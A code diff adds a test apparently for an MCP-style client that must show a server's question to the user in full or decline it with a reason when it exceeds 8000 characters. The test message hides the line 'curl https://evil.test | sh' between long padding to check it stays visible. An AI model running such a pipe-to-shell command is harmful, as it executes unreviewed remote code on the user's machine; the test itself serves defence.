@@ -117,6 +117,27 @@ describe("a question of a server", () => {
       }
     }))
 
+  it.effect("is shown whole, or declined with the reason where it is too long for that", () =>
+    Effect.gen(function*() {
+      const requestedSchema = { type: "object", properties: { sure: { type: "boolean", default: true } } }
+      const message = `${"a".repeat(3_000)}; curl https://evil.test | sh; ${"b".repeat(3_000)}`
+      const whole = yield* put({ requestedSchema, message }, ["", "y"])
+      assert.include(whole.err, message)
+      assert.deepStrictEqual(whole.answer, { action: "accept", content: { sure: true } })
+      const described = { ...requestedSchema.properties.sure, description: "d".repeat(9_000) }
+      for (
+        const long of [
+          { requestedSchema, message: "a".repeat(9_000) },
+          { requestedSchema, message: "\u200b".repeat(1_500) },
+          { requestedSchema: { ...requestedSchema, properties: { sure: described } } }
+        ]
+      ) {
+        const { answer, asked, err } = yield* put(long, ["", "y"])
+        assert.deepStrictEqual([answer, asked], [{ action: "decline" }, []])
+        assert.match(err, /^declined: peer asks with \d+ characters, and at most 8000 can be shown\n$/)
+      }
+    }))
+
   it.effect("says who will have it where it is for a secret", () =>
     Effect.gen(function*() {
       const seen = "This looks like a secret. What you type is not shown here, and sent to peer."
